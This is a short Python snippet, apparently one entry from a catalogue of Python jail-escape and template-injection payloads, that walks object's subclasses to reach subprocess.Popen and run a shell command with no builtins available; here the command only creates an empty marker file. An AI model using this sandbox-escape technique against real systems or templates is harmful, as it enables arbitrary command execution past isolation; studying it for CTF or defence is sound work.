"""The class subprocess.Popen is found below object.

Known from: CTF jails; payloads against templates
Effect: made
Host: import subprocess
Jail: no builtins
"""
for cls in {}.__class__.__mro__[-1].__subclasses__():
    if cls.__name__ == "Popen":
        cls(["sh", "-c", ": > made"]).wait()
